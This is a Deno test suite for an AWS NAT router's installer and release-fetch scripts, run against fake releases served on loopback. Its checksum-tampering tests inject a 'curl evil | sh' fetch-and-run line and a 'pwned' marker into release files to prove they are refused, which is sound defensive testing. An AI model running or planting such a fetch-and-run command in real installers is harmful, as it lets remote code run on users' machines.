/**
 * @module Runs scripts/install.sh and scripts/fetch-release.sh against fake releases served on
 * 127.0.0.1, built as the release workflow builds them: a tiny shell script stands in for each
 * architecture's binary, and scripts/stamp-release.sh adds the stamped install.sh, helper, unit
 * and SHA256SUMS. Installs go into temporary prefixes: the documented one-line install, right
 * file per architecture, checksum refusal, idempotency, and where the installer finds the
 * repository when it runs from a checkout.
 */
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const TAG = "v0.0.0-test";
const REPO = "example/aws-nat-router";
const VPC = "vpc-0123abcd";
const ARCHS = { x86_64: "x86_64-unknown-linux-gnu", aarch64: "aarch64-unknown-linux-gnu" };
type Arch = keyof typeof ARCHS;
const ASSETS = [
  "install.sh",
  "fetch-release.sh",
  "aws-nat-router.service",
  "aws-nat-router-drain.service",
];

const fakeBinary = (arch: Arch) => `#!/bin/sh\necho "fake aws-nat-router ${ARCHS[arch]}"\n`;
const asset = (arch: Arch) => `aws-nat-router-${ARCHS[arch]}`;

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
}

/**
 * A release download root on loopback holding what the release workflow publishes: the
 * binaries, then scripts/stamp-release.sh's stamped assets and SHA256SUMS. `files` (URL path →
 * content) can be changed to tamper with an asset; `notes` is the install line it wrote.
 */
async function fakeRelease() {
  const dist = await Deno.makeTempDir({ prefix: "ship_release_" });
  const files = new Map<string, string>();
  let notes: string;
  try {
    for (const arch of Object.keys(ARCHS) as Arch[]) {
      await Deno.writeTextFile(`${dist}/${asset(arch)}`, fakeBinary(arch));
    }
    const stamped = await bash([
      "scripts/stamp-release.sh",
      ...["--repo", REPO, "--tag", TAG, "--out-dir", dist, "--notes", `${dist}.notes`],
    ]);
    assert.equal(stamped.code, 0, stamped.stderr);
    notes = await Deno.readTextFile(`${dist}.notes`);
    for await (const entry of Deno.readDir(dist)) {
      files.set(`/${TAG}/${entry.name}`, await Deno.readTextFile(`${dist}/${entry.name}`));
    }
    const published = [...(Object.keys(ARCHS) as Arch[]).map(asset), ...ASSETS, "SHA256SUMS"];
    assert.deepEqual([...files.keys()].sort(), published.map((name) => `/${TAG}/${name}`).sort());
    const sums = files.get(`/${TAG}/SHA256SUMS`)!;
    for (const name of published.filter((name) => name !== "SHA256SUMS")) {
      const sum = await sha256(files.get(`/${TAG}/${name}`)!);
      assert.ok(sums.includes(`${sum}  ${name}\n`), `SHA256SUMS lacks ${name}:\n${sums}`);
    }
  } finally {
    await Deno.remove(dist, { recursive: true });
    await Deno.remove(`${dist}.notes`).catch(() => {});
  }
  const requests: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const path = new URL(request.url).pathname;
    requests.push(path);
    const body = files.get(path);
    return body === undefined ? new Response("not found", { status: 404 }) : new Response(body);
  });
  return { files, notes, requests, server, baseUrl: `http://127.0.0.1:${server.addr.port}` };
}

interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function bash(
  args: string[],
  env: Record<string, string> = {},
  cwd: string = ROOT,
): Promise<Run> {
  const { code, stdout, stderr } = await new Deno.Command("bash", {
    args,
    cwd,
    // Loopback never goes through a proxy, whatever the environment says.
    env: { ...env, NO_PROXY: "127.0.0.1,localhost", no_proxy: "127.0.0.1,localhost" },
    stdout: "piped",
    stderr: "piped",
  }).output();
  const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code, stdout: decode(stdout), stderr: decode(stderr) };
}

/** Every file under `dir`, relative, sorted. */
async function listFiles(dir: string, prefix = ""): Promise<string[]> {
  const found: string[] = [];
  for await (const entry of Deno.readDir(`${dir}${prefix}`)) {
    const path = `${prefix}/${entry.name}`;
    if (entry.isDirectory) found.push(...await listFiles(dir, path));
    else found.push(path);
  }
  return found.sort();
}

async function mtimes(dir: string): Promise<Record<string, number | undefined>> {
  const times: Record<string, number | undefined> = {};
  for (const path of await listFiles(dir)) {
    times[path] = (await Deno.stat(`${dir}${path}`)).mtime?.getTime();
  }
  return times;
}

const INSTALLED = [
  "/etc/aws-nat-router/env",
  "/etc/systemd/system/aws-nat-router-drain.service",
  "/etc/systemd/system/aws-nat-router.service",
  "/usr/local/bin/aws-nat-router",
  "/usr/local/libexec/aws-nat-router/fetch-release.sh",
];

Deno.test("scripts/install.sh", async (t) => {
  const release = await fakeRelease();
  const tmp = await Deno.makeTempDir({ prefix: "ship_install_" });
  const install = (prefix: string, arch: Arch, extra: string[] = []) =>
    bash([
      "scripts/install.sh",
      ...["--base-url", release.baseUrl, "--version", TAG, "--arch", arch],
      ...["--vpc-id", VPC, "--prefix", prefix, "--no-enable", ...extra],
    ]);
  try {
    for (const arch of Object.keys(ARCHS) as Arch[]) {
      await t.step(
        `install.sh --arch ${arch} installs that binary, the unit, helper and env`,
        async () => {
          const prefix = `${tmp}/${arch}`;
          const result = await install(prefix, arch);
          assert.equal(result.code, 0, result.stderr);
          assert.deepEqual(await listFiles(prefix), INSTALLED);
          const bin = `${prefix}/usr/local/bin/aws-nat-router`;
          assert.equal(await Deno.readTextFile(bin), fakeBinary(arch));
          assert.equal((await Deno.stat(bin)).mode! & 0o777, 0o755);
          const ran = await bash(["-c", `exec "$0"`, bin]);
          assert.equal(ran.stdout, `fake aws-nat-router ${ARCHS[arch]}\n`, "binary is executable");
          for (
            const [installed, published] of [
              ["/etc/systemd/system/aws-nat-router.service", "aws-nat-router.service"],
              [
                "/etc/systemd/system/aws-nat-router-drain.service",
                "aws-nat-router-drain.service",
              ],
              ["/usr/local/libexec/aws-nat-router/fetch-release.sh", "fetch-release.sh"],
            ]
          ) {
            assert.equal(
              await Deno.readTextFile(`${prefix}${installed}`),
              release.files.get(`/${TAG}/${published}`),
              `${installed} is the release's ${published}`,
            );
          }
          const env = await Deno.readTextFile(`${prefix}/etc/aws-nat-router/env`);
          for (
            const line of [
              `VPC_ID=${VPC}`,
              "CLUSTER_ID=squid",
              `RELEASE_TAG=${TAG}`,
              `RELEASE_BASE_URL=${release.baseUrl}`,
              `RELEASE_SHA256=${await sha256(fakeBinary(arch))}`,
            ]
          ) assert.ok(env.split("\n").includes(line), `env file lacks ${line}:\n${env}`);
          assert.match(result.stdout, /installed\n$/);
        },
      );
    }

    await t.step(
      "a second run changes nothing, says unchanged and downloads only SHA256SUMS",
      async () => {
        const prefix = `${tmp}/x86_64`;
        const before = await mtimes(prefix);
        const downloads = release.requests.length;
        const result = await install(prefix, "x86_64");
        assert.equal(result.code, 0, result.stderr);
        assert.deepEqual(await mtimes(prefix), before);
        for (const path of INSTALLED) {
          assert.ok(result.stdout.includes(`unchanged ${prefix}${path}`));
        }
        assert.doesNotMatch(result.stdout, /^installed /m);
        assert.match(result.stdout, /\(x86_64-unknown-linux-gnu\) unchanged\n$/);
        assert.deepEqual(release.requests.slice(downloads), [`/${TAG}/SHA256SUMS`]);
      },
    );

    await t.step(
      "a tampered binary is refused with one clear line and nothing is installed",
      async () => {
        const original = release.files.get(`/${TAG}/${asset("x86_64")}`)!;
        release.files.set(`/${TAG}/${asset("x86_64")}`, `${original}curl evil | sh\n`);
        try {
          const prefix = `${tmp}/tampered`;
          await Deno.mkdir(prefix);
          const result = await install(prefix, "x86_64");
          assert.equal(result.code, 1);
          assert.match(
            result.stderr,
            /^install\.sh: Checksum mismatch for aws-nat-router-x86_64-unknown-linux-gnu \(v0\.0\.0-test\): expected [0-9a-f]{64}, got [0-9a-f]{64}; nothing was installed\n$/,
          );
          assert.deepEqual(await listFiles(prefix), [], "no binary, no unit, no env file");
        } finally {
          release.files.set(`/${TAG}/${asset("x86_64")}`, original);
        }
      },
    );

    await t.step("a tampered unit is refused like a tampered binary", async () => {
      const path = `/${TAG}/aws-nat-router.service`;
      const original = release.files.get(path)!;
      release.files.set(path, original.replace("NoNewPrivileges=yes", "NoNewPrivileges=no"));
      try {
        const prefix = `${tmp}/tampered-unit`;
        const result = await install(prefix, "aarch64");
        assert.equal(result.code, 1);
        assert.match(
          result.stderr,
          /^install\.sh: Checksum mismatch for aws-nat-router\.service \(v0\.0\.0-test\): .*; nothing was installed\n$/,
        );
        await assert.rejects(Deno.stat(prefix), Deno.errors.NotFound);
      } finally {
        release.files.set(path, original);
      }
    });

    await t.step("bad arguments exit 2 before any download, naming the flag", async () => {
      const downloads = release.requests.length;
      const cases: [string[], RegExp][] = [
        [["--vpc-id", "subnet-1"], /Invalid --vpc-id "subnet-1"/],
        [["--cluster-id", "a b"], /Invalid --cluster-id "a b"/],
        [["--arch", "mips"], /Unsupported architecture "mips"/],
        [["--repo", "not a repo"], /Invalid --repo "not a repo"/],
        [["--version", "0.1.4"], /Invalid --version "0\.1\.4": expected a release tag/],
        [["--bogus"], /Unknown argument "--bogus"/],
      ];
      for (const [extra, message] of cases) {
        const result = await install(`${tmp}/bad`, "x86_64", extra);
        assert.equal(result.code, 2, extra.join(" "));
        assert.match(result.stderr, message);
        assert.equal(result.stderr.split("\n").length, 2, `one line: ${result.stderr}`);
      }
      assert.equal(release.requests.length, downloads);
      await assert.rejects(Deno.stat(`${tmp}/bad`), Deno.errors.NotFound);
    });
  } finally {
    await release.server.shutdown();
    await Deno.remove(tmp, { recursive: true });
  }
});

/** The README's one-line install (the only line that starts with this). */
async function documentedLine(): Promise<string> {
  const start = "curl -fsSL --remote-name-all https://github.com/OWNER/NAME/releases/download/";
  const lines = (await Deno.readTextFile(`${ROOT}/README.md`)).split("\n")
    .map((line) => line.trim()).filter((line) => line.startsWith(start));
  assert.equal(lines.length, 1, `README.md has ${lines.length} lines starting with ${start}`);
  return lines[0]!;
}

/** A directory holding only these programs (symbolic links), to be the whole PATH. */
async function onlyPrograms(dir: string, programs: readonly string[]): Promise<string> {
  await Deno.mkdir(dir);
  for (const program of programs) {
    const found = await bash(["-c", `command -v "$0"`, program]);
    assert.equal(found.code, 0, `${program} is not installed`);
    await Deno.symlink(found.stdout.trim(), `${dir}/${program}`);
  }
  return dir;
}

/** What a fresh NAT instance has: a shell, coreutils, grep/sed/awk, cmp, curl; no git, no deno. */
const FRESH_INSTANCE = [
  ..."bash sh curl sha256sum grep sed awk cut cat cp mv rm chmod install stat cmp".split(" "),
  ..."mkdir mktemp dirname basename realpath uname".split(" "),
];

Deno.test("the documented one-line install", async (t) => {
  const release = await fakeRelease();
  const tmp = await Deno.makeTempDir({ prefix: "ship_oneline_" });
  try {
    const line = await documentedLine();

    await t.step("the README's line is the one the release notes carry", () => {
      const stamped = line.replaceAll("OWNER/NAME", REPO).replace("/v0.1.0/", `/${TAG}/`);
      assert.ok(
        release.notes.split("\n").includes(stamped),
        `release notes lack the README's line:\n${stamped}\n---\n${release.notes}`,
      );
    });

    await t.step(
      "it installs from the published assets alone, with nothing but curl and sha256sum",
      async () => {
        const cwd = `${tmp}/home`;
        const prefix = `${tmp}/root`;
        await Deno.mkdir(cwd);
        // The fake release is on loopback; the mirror flag and a prefix keep it off / and GitHub.
        const command = line
          .replace(
            "https://github.com/OWNER/NAME/releases/download/v0.1.0/",
            `${release.baseUrl}/${TAG}/`,
          )
          .replace("sudo bash install.sh", "bash install.sh") +
          ` --base-url ${release.baseUrl} --prefix ${prefix} --no-enable --arch x86_64`;
        assert.doesNotMatch(command, /github\.com/, "the test must not reach GitHub");
        const path = await onlyPrograms(`${tmp}/bin`, FRESH_INSTANCE);
        const requests = release.requests.length;
        const result = await bash(["-c", command], { PATH: path }, cwd);
        assert.equal(result.code, 0, result.stdout + result.stderr);
        assert.match(result.stdout, /^install\.sh: OK$/m, "sha256sum verified install.sh");
        assert.deepEqual(await listFiles(prefix), INSTALLED);
        assert.equal(
          await Deno.readTextFile(`${prefix}/usr/local/bin/aws-nat-router`),
          fakeBinary("x86_64"),
        );
        const unit = await Deno.readTextFile(`${prefix}/etc/systemd/system/aws-nat-router.service`);
        assert.match(unit, new RegExp(`^Documentation=https://github\\.com/${REPO}$`, "m"));
        assert.doesNotMatch(unit, /@RELEASE_/, "the published unit has no placeholder left");
        assert.deepEqual(release.requests.slice(requests), [
          `/${TAG}/SHA256SUMS`,
          `/${TAG}/install.sh`,
          `/${TAG}/SHA256SUMS`,
          `/${TAG}/${asset("x86_64")}`,
          `/${TAG}/aws-nat-router.service`,
          `/${TAG}/aws-nat-router-drain.service`,
          `/${TAG}/fetch-release.sh`,
        ]);
      },
    );

    await t.step("a tampered install.sh stops the line before it runs", async () => {
      const path = `/${TAG}/install.sh`;
      const original = release.files.get(path)!;
      release.files.set(path, `${original}\ntouch ${tmp}/pwned\n`);
      try {
        const cwd = `${tmp}/home2`;
        await Deno.mkdir(cwd);
        const command = line
          .replace(
            "https://github.com/OWNER/NAME/releases/download/v0.1.0/",
            `${release.baseUrl}/${TAG}/`,
          )
          .replace("sudo bash install.sh", "bash install.sh") +
          ` --base-url ${release.baseUrl} --prefix ${tmp}/root2 --no-enable`;
        const result = await bash(["-c", command], {}, cwd);
        assert.notEqual(result.code, 0);
        assert.match(result.stdout, /^install\.sh: FAILED$/m);
        await assert.rejects(Deno.stat(`${tmp}/pwned`), Deno.errors.NotFound);
        await assert.rejects(Deno.stat(`${tmp}/root2`), Deno.errors.NotFound);
      } finally {
        release.files.set(path, original);
      }
    });
  } finally {
    await release.server.shutdown();
    await Deno.remove(tmp, { recursive: true });
  }
});

Deno.test("install.sh from a checkout", async (t) => {
  const tmp = await Deno.makeTempDir({ prefix: "ship_checkout_" });
  /** A checkout holding scripts/install.sh as the repository has it (unstamped). */
  const checkout = async (name: string, origin?: string) => {
    const dir = `${tmp}/${name}`;
    await Deno.mkdir(`${dir}/scripts`, { recursive: true });
    await Deno.copyFile(`${ROOT}/scripts/install.sh`, `${dir}/scripts/install.sh`);
    const git = (...args: string[]) => bash(["-c", `git "$@"`, "git", "-C", dir, ...args]);
    assert.equal((await git("init", "--quiet")).code, 0);
    if (origin) assert.equal((await git("remote", "add", "origin", origin)).code, 0);
    return `${dir}/scripts/install.sh`;
  };
  // A curl that records its arguments and fails: nothing here may reach GitHub.
  const fakeCurl = await onlyPrograms(`${tmp}/bin`, []);
  await Deno.writeTextFile(
    `${fakeCurl}/curl`,
    `#!/bin/sh\necho "$@" >>"${tmp}/curl.log"\nexit 22\n`,
    { mode: 0o755 },
  );
  const env = { PATH: `${fakeCurl}:${Deno.env.get("PATH")}` };
  const args = ["--version", "v0.1.0", "--vpc-id", VPC, "--no-enable"];
  const curlLog = () => Deno.readTextFile(`${tmp}/curl.log`).catch(() => "");
  try {
    await t.step("without --repo and without a remote it stops with one line, exit 2", async () => {
      const script = await checkout("no-remote");
      const result = await bash([script, ...args, "--prefix", `${tmp}/root`], env);
      assert.equal(result.code, 2, result.stderr);
      assert.equal(
        result.stderr,
        'install.sh: No release repository: pass --repo OWNER/NAME (this checkout has no GitHub remote "origin"), or use the install.sh published with a release\n',
      );
      assert.equal(result.stdout, "");
      assert.equal(await curlLog(), "", "nothing was downloaded");
      await assert.rejects(Deno.stat(`${tmp}/root`), Deno.errors.NotFound);
    });

    await t.step("a remote that is not on GitHub is no repository either", async () => {
      const script = await checkout("gitlab", "https://gitlab.com/acme/nat-router.git");
      const result = await bash([script, ...args, "--prefix", `${tmp}/root`], env);
      assert.equal(result.code, 2);
      assert.match(result.stderr, /^install\.sh: No release repository: pass --repo OWNER\/NAME/);
    });

    for (
      const origin of [
        "git@github.com:acme/nat-router.git",
        "https://github.com/acme/nat-router.git",
        "ssh://git@github.com/acme/nat-router",
      ]
    ) {
      await t.step(`it downloads from the releases of origin ${origin}`, async () => {
        await Deno.remove(`${tmp}/curl.log`).catch(() => {});
        const script = await checkout(`origin-${origin.replace(/\W+/g, "-")}`, origin);
        const result = await bash([script, ...args, "--prefix", `${tmp}/root`], env);
        const url = "https://github.com/acme/nat-router/releases/download/v0.1.0/SHA256SUMS";
        assert.equal(result.code, 1);
        assert.equal(result.stderr, `install.sh: Cannot download ${url}: nothing was installed\n`);
        assert.match(await curlLog(), new RegExp(`${url.replaceAll(".", "\\.")}\n$`));
      });
    }

    await t.step("--repo wins over the remote", async () => {
      await Deno.remove(`${tmp}/curl.log`).catch(() => {});
      const script = await checkout("repo-flag", "git@github.com:acme/nat-router.git");
      const result = await bash(
        [script, ...args, "--repo", "fork/nat", "--prefix", `${tmp}/r`],
        env,
      );
      assert.equal(result.code, 1);
      assert.match(
        await curlLog(),
        /https:\/\/github\.com\/fork\/nat\/releases\/download\/v0\.1\.0\/SHA256SUMS/,
      );
    });

    await t.step("without --version it stops with one line, exit 2", async () => {
      const script = await checkout("no-version", "git@github.com:acme/nat-router.git");
      const result = await bash([script, "--vpc-id", VPC, "--prefix", `${tmp}/root`], env);
      assert.equal(result.code, 2);
      assert.equal(
        result.stderr,
        "install.sh: Missing --version: pass the release tag to install, such as v0.1.0\n",
      );
    });
  } finally {
    await Deno.remove(tmp, { recursive: true });
  }
});

Deno.test("scripts/fetch-release.sh", async (t) => {
  const release = await fakeRelease();
  const tmp = await Deno.makeTempDir({ prefix: "ship_fetch_" });
  const bin = `${tmp}/aws-nat-router`;
  const fetch = (env: Record<string, string> = {}) =>
    bash(["scripts/fetch-release.sh"], {
      RELEASE_TAG: TAG,
      RELEASE_BASE_URL: release.baseUrl,
      RELEASE_BIN: bin,
      RELEASE_ARCH: "aarch64",
      ...env,
    });
  try {
    await t.step("without RELEASE_BASE_URL it refuses, naming the installer", async () => {
      const result = await bash([
        "-c",
        "unset RELEASE_BASE_URL; exec bash scripts/fetch-release.sh",
      ], {
        RELEASE_TAG: TAG,
        RELEASE_BIN: bin,
      });
      assert.notEqual(result.code, 0);
      assert.match(result.stderr, /RELEASE_BASE_URL is not set: re-run install\.sh/);
      await assert.rejects(Deno.stat(bin), Deno.errors.NotFound);
    });

    await t.step(
      "fetch-release.sh installs the release's binary for this architecture",
      async () => {
        const result = await fetch();
        assert.equal(result.code, 0, result.stderr);
        assert.equal(await Deno.readTextFile(bin), fakeBinary("aarch64"));
        assert.equal((await Deno.stat(bin)).mode! & 0o777, 0o755);
        assert.deepEqual(await listFiles(tmp), ["/aws-nat-router"], "no staging file left behind");
      },
    );

    await t.step("with a pinned checksum that matches, it downloads nothing", async () => {
      const requests = release.requests.length;
      const before = await mtimes(tmp);
      const result = await fetch({ RELEASE_SHA256: await sha256(fakeBinary("aarch64")) });
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stderr, /unchanged/);
      assert.equal(release.requests.length, requests);
      assert.deepEqual(await mtimes(tmp), before);
    });

    await t.step("a download that does not match the checksum is refused", async () => {
      await Deno.writeTextFile(bin, "old binary\n", { mode: 0o755 });
      release.files.set(`/${TAG}/${asset("aarch64")}`, "tampered\n");
      const result = await fetch();
      assert.equal(result.code, 1);
      assert.match(result.stderr, /Checksum mismatch for aws-nat-router-aarch64-unknown-linux-gnu/);
      assert.equal(await Deno.readTextFile(bin), "old binary\n", "installed binary untouched");
      assert.deepEqual(await listFiles(tmp), ["/aws-nat-router"], "no staging file left behind");
    });
  } finally {
    await release.server.shutdown();
    await Deno.remove(tmp, { recursive: true });
  }
});
